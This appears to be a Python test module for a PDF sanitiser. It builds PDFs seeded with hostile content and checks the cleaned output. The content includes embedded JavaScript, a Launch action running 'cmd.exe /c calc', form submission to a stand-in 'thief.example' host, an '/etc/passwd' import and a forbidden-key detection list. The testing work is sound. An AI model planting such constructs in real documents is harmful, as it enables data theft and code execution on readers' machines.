"""Papers with everything in them that should reach no member, each under a name."""

import warnings
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryDirectory

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from boards.remaking import child

SCRIPT = "app.alert('read me')"
AUTHOR = "Grace Private"
Spoil = Callable[[Pdf], None]
HOSTILE: dict[str, Spoil] = {}


def hostile(spoil: Spoil) -> Spoil:
    HOSTILE[spoil.__name__] = spoil
    return spoil


def paper_with(*spoils: Spoil, **how) -> bytes:
    """A paper of two pages with a line on each, and what each of ``spoils`` puts into it."""
    pdf = Pdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for number in (1, 2):
        pdf.add_blank_page(page_size=(595, 842))
        page = pdf.pages[-1].obj
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(b"BT /F1 20 Tf 72 700 Td (Page %d of words) Tj ET" % number)
    out = BytesIO()
    with warnings.catch_warnings():  # that a form has lost its fields, which some here mean to do
        warnings.simplefilter("ignore")
        for spoil in spoils:
            spoil(pdf)
        pdf.save(out, **how)
    return out.getvalue()


def script(code: str = SCRIPT) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def note(pdf: Pdf, page: int = 0, **fields) -> Dictionary:
    """An annotation on a page."""
    made = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[72, 600, 200, 630], **fields))
    at = pdf.pages[page].obj
    if "/Annots" not in at:
        at.Annots = Array()
    at.Annots.append(made)
    return made


def embedded(pdf: Pdf, name: str = "cases.xlsx") -> Dictionary:
    inside = pdf.make_stream(b"names of children", Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=inside))
    )


def drawn(pdf: Pdf, words: bytes = b"Yes") -> Dictionary:
    return pdf.make_stream(
        b"BT /F1 12 Tf 2 8 Td (%s) Tj ET" % words, Type=Name.XObject, Subtype=Name.Form,
        BBox=[0, 0, 128, 30],
        Resources=Dictionary(Font=Dictionary(
            F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        )),
    )  # fmt: skip


@hostile
def opens_with_a_script(pdf):
    pdf.Root.OpenAction = script()


@hostile
def a_script_hidden_in_a_stream(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT.encode()))


@hostile
def scripts_by_name(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))


@hostile
def a_script_when_a_page_is_turned(pdf):
    pdf.pages[1].obj.AA = Dictionary(O=script(), C=script())


@hostile
def a_script_when_it_is_closed_or_printed(pdf):
    pdf.Root.AA = Dictionary(WC=script(), WP=script())


@hostile
def an_action_behind_an_action(pdf):
    where = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=script())
    note(pdf, Subtype=Name.Link, A=where)


@hostile
def a_script_in_a_bookmark(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("Budget"), A=script()))
    root = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = root
    pdf.Root.Outlines = root


@hostile
def starts_a_program(pdf):
    win = Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=win))


@hostile
def sends_its_form(pdf):
    to = Dictionary(FS=Name.URL, F=String("https://thief.example/"))
    note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=to))


@hostile
def takes_in_data(pdf):
    note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("/etc/passwd")))


@hostile
def goes_to_another_file(pdf):
    away = Dictionary(S=Name.GoToR, F=String("\\\\thief.example\\share"), D=Array([0, Name.Fit]))
    note(pdf, Subtype=Name.Link, A=away)


@hostile
def a_link_that_is_a_script(pdf):
    for address in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "JaVaScRiPt:x",
        "https://a.example\r\nX: y",
    ):
        note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(address)))


@hostile
def an_address_under_every_link(pdf):
    pdf.Root.URI = Dictionary(Base=String("https://thief.example/"))


@hostile
def an_attached_file(pdf):
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("cases.xlsx"), embedded(pdf)]))
    )
    pdf.Root.Collection = Dictionary(View=Name.D)
    pdf.Root.PageMode = Name.UseAttachments


@hostile
def files_that_belong_to_it(pdf):
    pdf.Root.AF = Array([embedded(pdf)])
    pdf.pages[0].obj.AF = Array([embedded(pdf, "more.xlsx")])


@hostile
def a_file_pinned_to_a_page(pdf):
    note(pdf, Subtype=Name.FileAttachment, FS=embedded(pdf))


@hostile
def a_film_and_a_sound(pdf):
    heard = pdf.make_stream(b"\0\0", Type=Name.Sound, R=8000)
    note(pdf, Subtype=Name.Sound, Sound=heard)
    note(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("film.avi")), A=Dictionary())
    rendition = Dictionary(S=Name.Rendition, JS=String(SCRIPT), OP=0)
    note(pdf, Subtype=Name.Screen, A=rendition, AA=Dictionary(PO=rendition))


@hostile
def rich_media_and_a_model(pdf):
    content = Dictionary(Assets=Dictionary(Names=Array([String("x.swf"), embedded(pdf)])))
    note(pdf, Subtype=Name.RichMedia, RichMediaContent=content, RichMediaSettings=Dictionary())
    note(
        pdf,
        **{
            "Subtype": Name("/3D"),
            "3DD": pdf.make_stream(b"U3D", OnInstantiate=pdf.make_stream(b"x")),
        },
    )


@hostile
def a_form_with_scripts(pdf):
    field = note(
        pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String(AUTHOR), DA=String("/Helv 12 Tf"),
        AA=Dictionary(K=script(), F=script()), A=script(),
    )  # fmt: skip
    look = Dictionary(Font=Dictionary(Helv=Dictionary(
        Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica
    )))  # fmt: skip
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), DR=look, DA=String("/Helv 12 Tf 0 g"), CO=Array([field]),
        XFA=Array([String("template"), pdf.make_stream(b"<xdp><script/></xdp>")]),
    )  # fmt: skip


@hostile
def a_ticked_box_and_a_signature(pdf):
    box = note(
        pdf, Subtype=Name.Widget, FT=Name.Btn, T=String("agree"), V=Name.On, AS=Name.On,
        AP=Dictionary(N=Dictionary(On=drawn(pdf, b"ticked"))), AA=Dictionary(U=script()),
    )  # fmt: skip
    signed = note(
        pdf, Subtype=Name.Widget, FT=Name.Sig, T=String("sig"), AP=Dictionary(N=drawn(pdf, b"Signed")),
        V=Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("x"), Name=String(AUTHOR)),
    )  # fmt: skip
    pdf.Root.AcroForm = Dictionary(Fields=Array([box, signed]), SigFlags=3)
    pdf.Root.Perms = Dictionary(DocMDP=signed.V)
    pdf.Root.DSS = Dictionary(Certs=Array())


@hostile
def a_note_with_a_name(pdf):
    pinned = note(pdf, Subtype=Name.Text, T=String(AUTHOR), Contents=String("not for members"))
    note(pdf, Subtype=Name.Popup, Parent=pinned)
    note(pdf, Subtype=Name.Highlight, T=String(AUTHOR), AP=Dictionary(N=drawn(pdf, b"marked")))


@hostile
def layers_that_act(pdf):
    layer = pdf.make_indirect(Dictionary(
        Type=Name.OCG, Name=String("Draft"), Usage=Dictionary(CreatorInfo=Dictionary(Creator=String(AUTHOR)))
    ))  # fmt: skip
    event = Dictionary(Event=Name.Print, OCGs=Array([layer]), Category=Array([Name.Print]))
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([layer]), D=Dictionary(Order=Array([layer]), AS=Array([event]))
    )
    note(pdf, Subtype=Name.Link, A=Dictionary(S=Name.SetOCGState, State=Array([Name.ON, layer])))


@hostile
def who_made_it(pdf):
    pdf.docinfo["/Author"] = AUTHOR
    pdf.docinfo["/Title"] = f"Microsoft Word - {AUTHOR}.docx"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as notes:
        notes["dc:creator"] = [AUTHOR]
    pdf.pages[0].obj.Metadata = pdf.make_stream(
        AUTHOR.encode(), Type=Name.Metadata, Subtype=Name.XML
    )
    pdf.pages[0].obj.PieceInfo = Dictionary(Word=Dictionary(LastModified=String(AUTHOR)))
    pdf.pages[0].obj.Thumb = pdf.make_stream(b"\0", Width=1, Height=1)
    pdf.trailer.Secret = String(AUTHOR)


@hostile
def a_picture_that_lies_elsewhere(pdf):
    away = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1,
                           F=String("https://thief.example/x.png"))  # fmt: skip
    proxy = drawn(pdf)
    proxy.Ref = Dictionary(F=String("other.pdf"), Page=0)
    proxy.OPI = Dictionary()
    away.Alternates = Array([Dictionary(Image=proxy)])
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im0=away, Fm0=proxy)


@hostile
def tags_that_lead_to_it(pdf):
    """A tag keeps what it names: a field that no page has any more would stay in the file."""
    field = note(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("x"), AA=Dictionary(K=script()))
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot, Lang=String("en-GB")))
    tag = pdf.make_indirect(Dictionary(
        Type=Name.StructElem, S=Name.Form, P=root, Pg=pdf.pages[0].obj, AF=Array([embedded(pdf)]),
        K=Dictionary(Type=Name.OBJR, Obj=field),
    ))  # fmt: skip
    root.K = Array([tag, pdf.make_indirect(Dictionary(
        Type=Name.StructElem, S=Name.P, P=root, K=Array([0, Dictionary(Type=Name.OBJR, Obj=field)])
    ))])  # fmt: skip
    pdf.Root.StructTreeRoot = root
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


@hostile
def a_page_that_is_in_no_list(pdf):
    lost = pdf.make_indirect(Dictionary(
        Type=Name.Page, MediaBox=[0, 0, 9, 9], AA=Dictionary(O=script()), Parent=pdf.Root.Pages,
        Annots=Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=script())]),
    ))  # fmt: skip
    pdf.Root.Dests = Dictionary(lost=Array([lost, Name.Fit]))
    note(pdf, Subtype=Name.Link, Dest=Name.lost)
    pdf.Root.StructTreeRoot = Dictionary(
        Type=Name.StructTreeRoot, K=Dictionary(Type=Name.StructElem, S=Name.P, Pg=lost)
    )


@hostile
def hidden_under_names_of_resources(pdf):
    pdf.pages[0].obj.Resources.Font.JS = String(SCRIPT)
    pdf.pages[0].obj.Resources.Properties = Dictionary(
        MC0=Dictionary(
            AA=Dictionary(O=script()), A=script(), Metadata=pdf.make_stream(AUTHOR.encode())
        )
    )
    pdf.pages[0].obj.Group = Dictionary(S=Name.Transparency, A=script(), AF=Array([embedded(pdf)]))


FORBIDDEN = {
    "/OpenAction", "/AA", "/JS", "/JavaScript", "/EmbeddedFile", "/EmbeddedFiles", "/EF", "/AF", "/XFA",
    "/AcroForm", "/Collection", "/Launch", "/Win", "/RichMediaContent", "/RichMediaSettings", "/3DD",
    "/Movie", "/Sound", "/Rendition", "/Renditions", "/PieceInfo", "/Thumb", "/OPI", "/Alternates", "/Names",
    "/Dests", "/Usage", "/AS", "/Perms", "/DSS", "/Author", "/Creator", "/Producer", "/Secret",
    "/FS", "/Ref", "/PageMode", "/Encrypt",
}  # fmt: skip
ACTIONS = {"/JavaScript", "/Launch", "/GoToR", "/GoToE", "/SubmitForm", "/ImportData", "/ResetForm", "/Sound",
           "/Movie", "/Rendition", "/SetOCGState", "/Named", "/Hide", "/Thread"}  # fmt: skip


def forbidden_in(data: bytes) -> set[str]:
    """Every key and every action in the whole file that should not be: all objects, reached or not."""
    found: set[str] = set()
    with pikepdf.open(BytesIO(data)) as pdf:
        waiting = [pdf.trailer, *pdf.objects]
        while waiting:
            node = waiting.pop()
            if isinstance(node, Array):
                waiting += [each for each in node if not getattr(each, "is_indirect", False)]
            elif isinstance(node, (Dictionary, pikepdf.Stream)):
                found |= set(node.keys()) & FORBIDDEN
                found |= {str(node.get("/S", ""))} & ACTIONS
                found |= {str(node.get("/Subtype", ""))} & {
                    "/Widget",
                    "/Text",
                    "/FileAttachment",
                    "/Popup",
                }
                waiting += [
                    each
                    for each in (node[key] for key in node)
                    if not getattr(each, "is_indirect", False)
                ]
        whole = b"".join(
            each.read_bytes() for each in pdf.objects
            if isinstance(each, pikepdf.Stream) and "/Width" not in each
        )  # fmt: skip
    return found | {word for word in (SCRIPT, "thief", "passwd") if word.encode() in whole + data}


def made(*spoils, **how) -> pikepdf.Pdf:
    return pikepdf.open(BytesIO(in_this_process(paper_with(*spoils, **how))))


def in_this_process(data: bytes) -> bytes:
    """The same program without its walls: what it does, quickly."""
    with TemporaryDirectory() as folder:
        source, target = Path(folder, "a.pdf"), Path(folder, "b.pdf")
        source.write_bytes(data)
        child.made(str(source), "x", str(target))
        return target.read_bytes()
